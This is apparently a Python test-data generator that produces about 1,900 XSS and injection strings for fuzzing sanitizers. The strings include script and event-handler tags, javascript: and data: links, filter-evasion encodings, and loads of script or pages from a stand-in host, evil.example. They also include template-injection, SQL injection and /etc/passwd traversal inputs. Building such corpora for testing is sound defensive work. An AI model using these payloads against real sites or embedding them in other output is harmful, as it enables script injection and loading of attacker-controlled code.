"""Texts that try to become markup or script, made from parts: 1,900 and more, always the same."""

import html
from collections.abc import Iterator
from itertools import islice, product
from urllib.parse import quote

_ELSEWHERE = "//evil.example/x"
_RUN = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)", "(0,eval)('alert(1)')")
_TAGS = (
    *("img src=x", "svg", "body", "iframe", "video", "audio src=x", "input autofocus", "object"),
    *("details open", "marquee", "select autofocus", "textarea autofocus", "embed src=x", "math"),
    *("style", "link rel=stylesheet href=x", "form", "a href=x", "table", "keygen autofocus"),
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter", "onanimationend"),
    *("onmouseover", "onclick", "onbegin", "onwheel"),
)
# How an attribute and its value may be written so that a filter does not see them.
_WRITTEN = ("<{tag} {event}={run}>", "<{tag}/{event}='{run}'>", '<{tag}\n{event}\t=\n"{run}" x')
# Ways out of where a text may stand.
_OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "`", "<!--", "\x00")
_SCRIPTS = (
    "<script>{run}</script>",
    f"<script src={_ELSEWHERE}></script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script\x0b>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mi//xlink:href=javascript:{run}>x",
    '<iframe srcdoc="<script>{run}</script>">',
    f"<iframe src={_ELSEWHERE}>",
    f"<img src={_ELSEWHERE}>",
    f"<object data={_ELSEWHERE}></object>",
    f"<link rel=stylesheet href={_ELSEWHERE}>",
    f"<style>@import '{_ELSEWHERE}';</style>",
    f"<base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><button formaction=javascript:{run}>x",
)
_LINKS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "https://evil.example/'onmouseover='{run}",
    'https://evil.example/"onfocus="{run}" autofocus="',
)
_MARKDOWN = (
    "[x]({link})",
    "![x]({link})",
    "<{link}>",
    "[x]: {link}\n\n[x]",
    '[x](https://evil.example "{link}")',
    "[![x]({link})]({link})",
)
_PLAIN = (
    *("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% raw %}{{x}}{% endraw %}", "__proto__"),
    *(
        "\u202e<b>",
        "\u2028alert(1)//",
        "\ufeff<script>",
        "＜script＞alert(1)＜/script＞",
        "<\u0000svg>",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript",
    ),
    *("ÅÍÎÏ˝ÓÔ", "👾 🙇 💁", "الكل في المجمو عة (5)", "ﬁﬂ", "' OR 1=1 -- 1", "../../../etc/passwd"),
    *("DCC SEND STARTKEYLOGGER 0 0 0", "<a href='javascript\x3a:alert(1)'>", "a" * 3000, "\n" * 50),
)


def _all() -> Iterator[str]:
    for link, run in product(_LINKS, _RUN):
        address = link.format(run=run)
        yield address
        yield from (way.format(link=address) for way in _MARKDOWN)
    for script, out, run in product(_SCRIPTS, _OUT, _RUN[:2]):
        yield out + script.format(run=run)
    yield from _PLAIN
    for written, tag, event, run in product(_WRITTEN, _TAGS, _EVENTS, _RUN[:2]):
        yield written.format(tag=tag, event=event, run=run)
    seeds = [script.format(run=_RUN[0]) for script in _SCRIPTS]
    for seed in seeds:
        yield from (html.escape(seed), quote(seed), seed.replace("<", "\\x3c"), seed.upper())


def payloads(least: int = 1900) -> list[str]:
    """The texts, each once, at least so many."""
    found = list(dict.fromkeys(_all()))
    assert len(found) >= least, f"only {len(found)} are made"
    return found


def chunks(texts: list[str], size: int) -> Iterator[list[str]]:
    """The texts in order, so many at a time."""
    rest = iter(texts)
    while chunk := list(islice(rest, size)):
        yield chunk
